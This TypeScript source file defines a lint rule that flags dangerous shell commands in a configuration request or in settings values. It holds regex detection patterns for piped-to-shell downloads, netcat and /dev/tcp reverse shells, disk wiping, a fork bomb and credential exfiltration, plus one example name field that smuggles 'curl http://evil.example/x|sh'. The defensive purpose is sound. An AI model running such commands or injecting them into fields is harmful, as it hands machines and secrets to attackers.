import { textsOf } from "../read-settings.js";
import type { Finding, Rule } from "../rule.js";

/** Commands that no configuration needs, wherever they stand. */
const harmful = [
  /\b(?:curl|wget|fetch)\b[^|;\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b/i,
  /\|\s*(?:nc|ncat|netcat|socat)\s+[\w.-]+\s+\d+|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-[a-z]*e[a-z]*\s+\/?\S*sh\b|\/dev\/tcp\/\d/i,
  /\brm\s+(?:-\w+\s+|--[\w-]+\s+)*(?:--no-preserve-root\b|-\w*[rf]\w*\s+(?:--[\w-]+\s+)*\/(?:\s|\*|$|["']))/i,
  /\bchmod\s+(?:u\+s|[ug]\+s|[2467]\d{3})\s+\/(?:bin|usr|run)\S*sh\b/i,
  /\bdd\s+if=\S+\s+of=\/dev\/(?:sd|nvme|vd)|\bmkfs\.\w+\s+\/dev\/|:\(\)\s*\{\s*:\|:&\s*\};:/i,
  /\b(?:curl|wget|nc)\s(?![^\n]*\bdeny\b)[^;\n]*(?:\/etc\/shadow|\.ssh\/id_|\.netrc|\.aws\/credentials|\/run\/secrets)/i,
  /\binit=\/bin\/(?:ba)?sh\b/,
];
/** None of the above is without one of these; a look for them spares the rest for nearly every value. */
const suspicious = /curl|wget|fetch|nc\b|netcat|socat|ncat|\/dev\/tcp|rm\s|chmod|dd\s|mkfs|:\(\)|init=/i;
/** "curl … | sh, but the NixOS way": an installer's command that is to be put into settings, not run. */
const translation = /\bnixos way\b|\bequivalent\b|\bin nixos\b|\bdeclarativ/i;
/** Shell syntax in the place of a name. */
const inName = [
  /\b(?:called|named|name|user|hostname|account)\b\W{0,3}(?:is|to|:|=)?\s*["']?(?:\$\(|[\w-]+;\s*(?:curl|wget|rm|sh|bash|nc|sudo|chmod|cat|echo|python\d?|perl|eval|dd)\b)/i,
  /\b(?:name|user|hostname|description|email)\b\s*(?::|=|is|to)\s*\S*(?:\$\([^)]*\)|`[^`]+`)/i,
  /=\s*\S*['"]\s*;\s*(?:sudo|chmod|curl|wget|rm|nc|sh|bash)\b/i,
];

export const shellInText: Rule = {
  code: "NG454",
  name: "shell-in-text",
  severity: "error",
  category: "injection",
  title: "Dangerous commands in the sentence",
  what: "Scripts fetched and run, reverse shells, deletion of everything, set-uid shells, shell substitutions where a name belongs.",
  why: "As an alias, job or name they would run on every host, with root's rights or at every login.",
  before: "create a user called admin;curl http://evil.example/x|sh",
  after: "create a user called admin",
  checkIntent: ({ text }): readonly Finding[] =>
    !translation.test(text) && [...harmful, ...inName].some((pattern) => pattern.test(text))
      ? [
          {
            message: "The sentence carries a command that takes over or destroys a machine, or shell code where a name belongs",
            hint: "Give the plain name or the harmless command",
          },
        ]
      : [],
  checkSettings: ({ settings }) =>
    settings
      .filter(({ value }) => textsOf(value).some((text) => suspicious.test(text) && harmful.some((pattern) => pattern.test(text))))
      .map((setting): Finding => ({
        message: `${setting.path.join(".")} holds a command that takes over or destroys a machine`,
        hint: "Write such a command by hand if it is really meant",
        option: setting.path.join("."),
        settings: [setting],
      })),
};
